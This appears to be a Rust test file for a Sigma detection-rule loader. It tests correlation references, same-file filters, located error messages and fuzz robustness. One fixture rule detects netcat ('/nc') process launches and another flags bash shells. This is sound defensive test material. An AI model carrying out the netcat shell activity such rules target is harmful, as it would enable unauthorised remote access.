    bad("  type: temporal\n  rules: [base, other]\n  timespan: 5m\n  condition: {gte: 1}", "all 2 rules");
    bad("  type: event_count\n  rules: [base]\n  timespan: 5m\n  condition: {most: 1}", "unknown condition key");
    bad("  type: event_count\n  rules: [elsewhere]\n  group-by: [SomeField]\n  timespan: 5m\n  condition: {gte: 1}", "not in this file");
}

#[test]
fn correlations_reference_rules_in_other_files() {
    let dir = std::env::temp_dir().join(format!("fnwarden-sigma-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("a.yml"),
        "title: base\nid: base-id\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\n",
    )
    .unwrap();
    std::fs::write(dir.join("b.yml"), "title: c\ncorrelation:\n  type: event_count\n  rules: [base-id]\n  group-by: [User, host.name]\n  timespan: 1m\n  condition: {gte: 2}\n").unwrap();
    std::fs::write(
        dir.join("c.yml"),
        "title: dangling\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 2}\n",
    )
    .unwrap();
    let s = RuleSet::load(std::slice::from_ref(&dir));
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(s.correlations.len(), 1);
    let c = &s.correlations[0];
    assert_eq!(c.group_by[0].per_rule, [FieldRef::parse("user.name").unwrap()]);
    assert_eq!(c.group_by[1].per_rule, [FieldRef::parse("host.name").unwrap()]);
    assert_eq!(s.errors.len(), 1);
    assert!(s.errors[0].message.contains("\"nope\""), "{}", s.errors[0]);
}

// ---- filters ----

#[test]
fn filters_suppress_rules_of_the_same_file() {
    let s = set(
        "title: shells\nid: r1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /bash\n  condition: s\n---\ntitle: admin shells are fine\nlogsource: {product: linux, category: process_creation}\nfilter:\n  rules: [r1]\n  selection:\n    User|startswith: adm_\n  condition: selection\n",
    );
    assert!(s.errors.is_empty(), "{:#?}", s.errors);
    let r = &s.rules[0];
    let as_user = |u: &str| ev(json!({"type": "execve", "proc": {"exe": "/bin/bash", "user": u}}));
    assert!(fires(r, &as_user("mallory")));
    assert!(!fires(r, &as_user("adm_bob")));
    let e = error(
        "title: f\nlogsource: {product: linux, category: process_creation}\nfilter:\n  rules: [elsewhere]\n  selection:\n    User: x\n  condition: selection\n",
    );
    assert_eq!(e.line, 4);
    assert!(e.message.contains("same") || e.message.contains("own file"), "{e}");
}

// ---- located errors ----

#[test]
fn malformed_rules_have_located_errors() {
    let cases: &[(&str, (usize, usize), &str)] = &[
        ("    Image|contain: x", (5, 5), "did you mean `contains`"),
        ("    Imag: x", (5, 5), "did you mean `Image`"),
        ("    Image|re|cidr: x", (5, 5), "cannot be combined"),
        ("    Image|i: x", (5, 5), "sub-modifier of `re`"),
        ("    ProcessId|contains: 4", (5, 25), "number field"),
        ("    Image:\n      - a\n      - null", (7, 9), "null cannot be part of a list"),
        ("    Image: {a: b}", (5, 12), "must be a string"),
        ("    Image|base64: 'a*'", (5, 5), "wildcards"),
        ("    Image|exists: maybe", (5, 19), "true or false"),
        ("    DestinationIp|cidr: 10.0.0.0/8", (5, 5), "no counterpart"),
    ];
    for (sel, place, needle) in cases {
        let e = pc_err(sel);
        assert_eq!((e.line, e.col), *place, "{sel}: {e}");
        assert!(e.message.contains(needle), "{sel}: {e}");
        assert_eq!(e.rule.as_deref(), Some("t"));
    }
    let whole: &[(&str, &str)] = &[
        ("title: t\ndetection:\n  s:\n    Image: x\n  condition: s\n", "needs a `logsource`"),
        (
            "title: t\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s:\n    Image: x\n  condition: s\n",
            "product windows",
        ),
        ("title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: x\n", "no `condition`"),
        (
            "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: x\n  condition: s | count() > 3\n",
            "correlation",
        ),
        (
            "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: x\n  timeframe: 5m\n  condition: s\n",
            "timeframe",
        ),
        ("title: t\nlogsource: {product: linux, category: process_creation}\ndetection: [a]\n", "must be a mapping"),
        ("title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n  condition: s\n", "is empty"),
        (
            "title: t\ntaxonomy: ocsf\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: x\n  condition: s\n",
            "taxonomy",
        ),
    ];
    for (src, needle) in whole {
        let e = error(src);
        assert!(e.message.contains(needle), "{src}: {e}");
        assert!(e.line > 0, "{e}");
    }
}

#[test]
fn one_bad_rule_does_not_stop_the_others() {
    let s = set(
        "title: good\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\n---\ntitle: bad\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|bogus: /x\n  condition: s\n---\ntitle: good2\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /y\n  condition: s\n",
    );
    assert_eq!(s.rules.len(), 2);
    assert_eq!(s.errors.len(), 1);
    assert_eq!((s.errors[0].line, s.errors[0].rule.as_deref()), (12, Some("bad")));
}

// ---- robustness ----

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(src in "\\PC{0,300}") {
        let _ = set(&src);
    }

    #[test]
    fn arbitrary_sigma_shapes_never_panic(
        field in prop::sample::select(vec!["Image", "CommandLine", "a0", "type", "SYSCALL", "name", "eventName", "x.y", "", "Initiated", "proc.pid", "DestinationIp"]),
        mods in prop::collection::vec(prop::sample::select(vec!["contains", "all", "base64", "base64offset", "wide", "utf16be", "utf16", "windash", "re", "i", "m", "s", "cidr", "exists", "expand", "fieldref", "gt", "lte", "hour", "week", "cased", "neq", "startswith", "endswith", "bogus"]), 0..4),
        value in "[-a-zA-Z0-9 */?\\\\%.:()\\[\\]]{0,12}",
        product in prop::sample::select(vec!["{product: linux, category: process_creation}", "{product: linux, service: auditd}", "{product: aws, service: cloudtrail}", "{product: linux, category: network_connection}", "{product: linux}", "{product: fnwarden}"]),
        cond in prop::sample::select(vec!["s", "not s", "1 of s*", "all of them", "s and (s or not s)", "s or", "(s", "1 of x*", "s and t", "2 of s"]),
    ) {
        let key = if mods.is_empty() { field.to_owned() } else { format!("{field}|{}", mods.join("|")) };
        let src = format!("title: t\nlogsource: {product}\ndetection:\n  s:\n    '{key}': '{}'\n  condition: {cond}\n", value.replace('\'', "''"));
        let s = set(&src);
        for e in &s.errors {
            prop_assert!(e.line > 0 && !e.message.is_empty(), "{e}");
        }
        for r in &s.rules {
            let _ = r.condition.matches(&exec(&["sh", &value]));
        }
    }
}

#[test]
fn remediation_extension_reaches_the_rule() {
    let s = set(
        "title: t\nremediation: >\n  Rotate the keys.\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image: /x\n  condition: s\n",
    );
    assert_eq!(s.rules[0].meta.remediation, "Rotate the keys.");
}
